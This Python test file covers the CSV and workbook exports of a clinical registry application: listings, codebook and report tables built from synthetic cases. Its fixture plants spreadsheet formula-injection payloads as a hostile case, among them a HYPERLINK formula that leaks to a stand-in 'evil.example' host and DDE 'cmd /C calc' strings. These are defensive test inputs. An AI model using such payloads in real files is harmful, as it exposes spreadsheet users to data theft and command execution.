"""The listings, codebook and report tables of the exports, from records of real cases.

:func:`make_central` enters synthetic cases through the real case service (the demo's planner)
plus one hostile case, and takes their records with ``record_of`` exactly as a batch carries
them to the registry. The CSV and workbook tests use the same cases.
"""

from __future__ import annotations

import copy
import random
from dataclasses import dataclass
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from cmlentry.crypto.keyslots import OWASP_FLOOR
from cmlentry.domain.accounts import SiteDetails
from cmlentry.domain.forms import FormDefinition
from cmlentry.domain.pseudonym import RegistryId
from cmlentry.domain.values import Entry
from cmlentry.services.batches.record import Record, record_of
from cmlentry.services.cases import CaseService, RowData
from cmlentry.services.demo import enter_case, plan_cases
from cmlentry.services.reports.abstract import abstract_endpoints
from cmlentry.services.reports.endpoints import patient_endpoints
from cmlentry.services.reports.listing import (
    CASE_COLUMNS,
    CODEBOOK_COLUMNS,
    CODES,
    LABELS,
    REPLACEMENT,
    DefinitionMismatch,
    ListingBuilder,
    ValueStyle,
    codebook_rows,
    listings,
    report_tables,
)
from cmlentry.services.reports.registry_report import (
    CentreSummary,
    RegistryReport,
    ReportOptions,
)
from cmlentry.services.reports.tables import CentralRecord, case_facts, tables_of
from cmlentry.services.spreadsheet import DASH, sheet_plans
from cmlentry.services.workspace import create_workspace

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'
PLUS_CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
LONG = "x" * 40_000
NON_ASCII = "Mutation T315I détectée — 日本語 🧬\nsecond line"
ERROR_LIKE = "#REF!"
OOXML_ESCAPE = "_x003D_1+1"
# Texts the case service cannot store (it strips a valid text; the registry's record check
# refuses characters XML cannot carry), put into a record to show the export never depends on it.
INJECTED = ("\tTAB then text", "\rCR then text", "bell\x07here", "lone \ud800 surrogate", "\ufffe")


@dataclass(frozen=True)
class Central:
    """Records as the registry stores them: synthetic cases, the hostile case, the injected one."""

    definition: FormDefinition
    records: list[Record]
    hostile: Record
    injected: Record


def make_central(folder: Path, cases: int = 8) -> Central:
    """Cases entered through the real case service; their records as ``record_of`` gives them."""
    clock = lambda: datetime(2026, 11, 21, 9, 0, tzinfo=UTC)  # noqa: E731
    created = create_workspace(
        folder, SiteDetails.checked("FR", "086", "CHU de Test"), "admin", "Ada Admin",
        "Grenoble-2026-ws", clock=clock, policy=OWASP_FLOOR,
    )  # fmt: skip
    with created.workspace as ws:
        service = CaseService(ws)
        for plan in plan_cases(random.Random(5), cases):
            enter_case(service, plan, lambda: None)
        hostile_id = _enter_hostile_case(service)
        definition = service.definition
        records = [
            record_of(service.get_case(c.registry_id), definition.oid) for c in service.list_cases()
        ]
    hostile = next(r for r in records if r["id"] == hostile_id)
    injected = copy.deepcopy(hostile)
    injected["id"] = str(RegistryId("FR", "086", 9000))
    rows = injected["forms"]["toxicity"]["groups"]["adverse_event"]
    for row, text in zip(rows, INJECTED, strict=False):
        row["values"]["ae_term_other"] = {"value": text}
    return Central(definition, records, hostile, injected)


def _enter_hostile_case(service: CaseService) -> str:
    def one(**values: Entry) -> list[RowData]:
        return [RowData(None, values)]

    registry_id = service.create_case()
    service.save_form(registry_id, "patient", {"patient": one(
        sex=Entry("=1+1"), birth_year=Entry("1950"), birth_month=Entry(missing="UNK"),
        prospective_study=Entry("Y"), prospective_study_name=Entry(HYPERLINK),
    )})  # fmt: skip
    service.save_form(registry_id, "diagnosis", {
        "diagnosis": one(diagnosis_date=Entry("2004-03")),
        "baseline": one(wbc=Entry("12,5 G/L"), haemoglobin=Entry("-2"),
                        platelets=Entry(missing="ND")),
        "karyotype": one(aca_at_diagnosis=Entry("Y"), aca_karyotype=Entry(AT_SUM)),
    })  # fmt: skip
    service.save_form(registry_id, "prior_therapy", {"prior_therapy": one(
        prior_other=Entry("Y"), prior_other_specify=Entry(PLUS_CMD),
    )})  # fmt: skip
    service.save_form(registry_id, "imatinib", {"doses": [
        RowData(None, {"dose_start_date": Entry("2005-01-01"), "dose_mg": Entry("-2")}),
        RowData(None, {"dose_start_date": Entry("2005-06-01"), "dose_mg": Entry("600")}),
    ]})  # fmt: skip
    service.save_form(registry_id, "toxicity", {"adverse_event": [
        RowData(None, {"ae_term": Entry("OTHER"), "ae_term_other": Entry(text)})
        for text in (LONG, ERROR_LIKE, OOXML_ESCAPE, "-2", "plain")
    ]})  # fmt: skip
    service.save_form(registry_id, "decision", {"decision": one(
        next_treatment=Entry("OTHER"), next_treatment_specify=Entry("-2"),
        next_dose_mg=Entry(missing="NA"), mutation_text=Entry(NON_ASCII),
    )})  # fmt: skip
    return registry_id


def build_report(central: Central, records: list[Record] | None = None) -> RegistryReport:
    """The registry report of ``records``, built by the report's own functions, without a store."""
    records = central.records if records is None else records
    definition, options = central.definition, ReportOptions()
    facts = [case_facts(CentralRecord("FR-086", "FR", r), definition) for r in records]
    patients = [patient_endpoints(r, options.endpoint_options, definition) for r in records]
    return RegistryReport(
        generated_at="2026-11-21T09:00:00.000000Z",
        source="test",
        definition=definition.oid,
        options=options,
        patients=len(records),
        not_accepted=0,
        centres=(CentreSummary("FR-086", "FR", "CHU de Test", len(records)),),
        tables=tables_of(facts, definition),
        endpoints=abstract_endpoints(
            patients, options.endpoint_options, options.ci, options.landmark_months
        ),
    )


@pytest.fixture(scope="module")
def central(tmp_path_factory: pytest.TempPathFactory) -> Central:
    return make_central(tmp_path_factory.mktemp("central"))


def rows_of(central: Central, record: Record, key: str, style: ValueStyle = CODES) -> list[Any]:
    builder = ListingBuilder(central.definition, style)
    return next(rows for listing, rows in builder.rows(record) if listing.key == key)


def column(central: Central, key: str, name: str) -> int:
    listing = next(x for x in listings(central.definition) if x.key == key)
    return [c.name for c in listing.columns].index(name)


# --- layout ---------------------------------------------------------------------------------


def test_listings_follow_the_entry_template_and_hold_every_stored_item_once(
    central: Central,
) -> None:
    found = listings(central.definition)
    plans = sheet_plans(central.definition)
    assert [(x.key, x.title) for x in found] == [(p.key, p.title) for p in plans]
    items = [c.name for x in found for c in x.columns if c.item is not None]
    stored = [
        item.id
        for form in central.definition.forms
        for item in form.items()
        if item.type != "derived"
    ]
    assert sorted(items) == sorted(stored)
    assert len(items) == len(set(items))
    for listing in found:
        names = [c.name for c in listing.columns]
        fixed = CASE_COLUMNS + (("row",) if listing.repeating else ())
        assert tuple(names[: len(fixed)]) == fixed


def test_every_case_has_one_row_per_form_and_one_per_stored_row_of_a_repeating_group(
    central: Central,
) -> None:
    builder = ListingBuilder(central.definition)
    for record in central.records:
        for listing, rows in builder.rows(record):
            form = record["forms"].get(listing.form.id)
            if not listing.repeating:
                assert len(rows) == 1
                status = rows[0][CASE_COLUMNS.index("form_status")]
                assert status == (form["status"] if form else None)
                continue
            stored = (form or {}).get("groups", {}).get(listing.groups[0].id, [])
            assert [row[len(CASE_COLUMNS)] for row in rows] == list(range(1, len(stored) + 1))
            assert all(row[0] == record["id"] and row[1] == "FR-086" for row in rows)


def test_repeating_rows_keep_their_stored_values_in_their_shown_order(central: Central) -> None:
    rows = rows_of(central, central.hostile, "toxicity.adverse_event")
    at = column(central, "toxicity.adverse_event", "ae_term_other")
    assert [r[at] for r in rows] == [LONG, ERROR_LIKE, OOXML_ESCAPE, "-2", "plain"]


# --- values ---------------------------------------------------------------------------------


def test_choices_are_codes_or_labels_and_missing_codes_codes_or_words(central: Central) -> None:
    demo = next(r for r in central.records if r is not central.hostile)
    stored_sex = demo["forms"]["patient"]["groups"]["patient"][0]["values"]["sex"]["value"]
    sex = column(central, "patient", "sex")
    month = column(central, "patient", "birth_month")
    assert rows_of(central, demo, "patient")[0][sex] == stored_sex
    assert (
        rows_of(central, demo, "patient", LABELS)[0][sex]
        == (central.definition.codelists["sex"][stored_sex])
    )
    codes = rows_of(central, central.hostile, "patient")[0]
    words = rows_of(central, central.hostile, "patient", LABELS)[0]
    mixed = rows_of(central, central.hostile, "patient", ValueStyle(labels=True))[0]
    assert (codes[month], words[month], mixed[month]) == ("UNK", "unknown", "UNK")
    # A code kept as typed (not in the list) has no label: it is written as it is.
    assert codes[sex] == words[sex] == "=1+1"


def test_numbers_are_numbers_with_their_stored_digits_and_a_text_stays_a_text(
    central: Central,
) -> None:
    baseline = rows_of(central, central.hostile, "diagnosis")[0]
    assert baseline[column(central, "diagnosis", "haemoglobin")] == Decimal("-2")
    assert baseline[column(central, "diagnosis", "wbc")] == "12,5 G/L"  # kept as typed
    assert baseline[column(central, "diagnosis", "platelets")] == "ND"
    assert baseline[column(central, "diagnosis", "diagnosis_date")] == "2004-03"  # as stored
    doses = rows_of(central, central.hostile, "imatinib.doses")
    assert [r[column(central, "imatinib.doses", "dose_mg")] for r in doses] == [-2, 600]
    assert all(type(r[column(central, "imatinib.doses", "dose_mg")]) is int for r in doses)
    decision = rows_of(central, central.hostile, "decision")[0]
    assert decision[column(central, "decision", "next_treatment_specify")] == "-2"
    assert decision[column(central, "decision", "mutation_text")] == NON_ASCII


def test_characters_xml_cannot_carry_become_the_replacement_character_and_are_counted(
    central: Central,
) -> None:
    builder = ListingBuilder(central.definition)
    rows = next(r for x, r in builder.rows(central.injected) if x.key == "toxicity.adverse_event")
    texts = [r[column(central, "toxicity.adverse_event", "ae_term_other")] for r in rows]
    assert texts == [
        "\tTAB then text",
        "\rCR then text",
        f"bell{REPLACEMENT}here",
        f"lone {REPLACEMENT} surrogate",
        REPLACEMENT,
    ]
    assert builder.replaced == 3


def test_a_record_of_another_definition_is_refused_by_name(central: Central) -> None:
    other = {**central.records[0], "definition": "cml-ifp-9.9"}
    with pytest.raises(DefinitionMismatch) as caught:
        list(ListingBuilder(central.definition).rows(other))
    assert caught.value.code == "reports.listing.definition"
    assert "cml-ifp-9.9" in str(caught.value) and central.records[0]["id"] in str(caught.value)


# --- codebook ---------------------------------------------------------------------------------


def test_the_codebook_describes_exactly_the_listing_columns(central: Central) -> None:
    book = codebook_rows(central.definition)
    assert all(len(row) == len(CODEBOOK_COLUMNS) for row in book)
    described = [(row[0], row[1]) for row in book]
    expected = [(x.key, c.name) for x in listings(central.definition) for c in x.columns if c.item]
    assert described == expected


def test_the_codebook_row_of_a_known_item(central: Central) -> None:
    definition = central.definition
    rows = {
        row[1]: dict(zip(CODEBOOK_COLUMNS, row, strict=True)) for row in codebook_rows(definition)
    }
    sex, wbc = rows["sex"], rows["wbc"]
    assert sex["listing"] == "patient" and sex["form"] == "patient" and sex["type"] == "code"
    assert sex["codelist"] == "sex" and sex["repeating"] == "no"
    assert sex["codes"].split("\n") == [
        f"{code}{DASH}{label}" for code, label in definition.codelists["sex"].items()
    ]
    assert wbc["unit"] == definition.item("wbc").unit
    assert wbc["missing_codes"].split("\n") == [
        f"{code}{DASH}{definition.missing_codes[code]}" for code in definition.item("wbc").missing
    ]
    assert rows["dose_mg"]["repeating"] == "yes" and rows["dose_mg"]["listing"] == "imatinib.doses"
    assert rows["diagnosis_date"]["partial_date"] == "yes"
    assert {row["version"] for row in rows.values()} == {definition.version}


# --- report tables ----------------------------------------------------------------------------


def test_report_tables_give_tab_1_as_the_records_say(central: Central) -> None:
    tables = {t.title: t for t in report_tables(build_report(central))}
    reasons = tables["Reasons for registration (Tab. 1)"]
    stored = [
        r["forms"].get("registration", {}).get("groups", {}).get("registration", [{}])[0]
        .get("values", {}).get("form_a_reason", {}).get("value")
        for r in central.records
    ]  # fmt: skip
    labels = central.definition.codelists["form_a_reason"]
    counted = {row[0]: row[1] for row in reasons.rows if not str(row[0]).startswith("Not")}
    assert counted == {f"{c}: {label}": stored.count(c) for c, label in labels.items()}
    by_centre = tables["Reasons for registration by centre"]
    assert by_centre.headings == ("Reason", "FR-086 n", "FR-086 %")
    assert [row[1] for row in by_centre.rows] == list(counted.values())
    assert all(len(row) <= max(len(t.headings), 2) for t in tables.values() for row in t.rows)
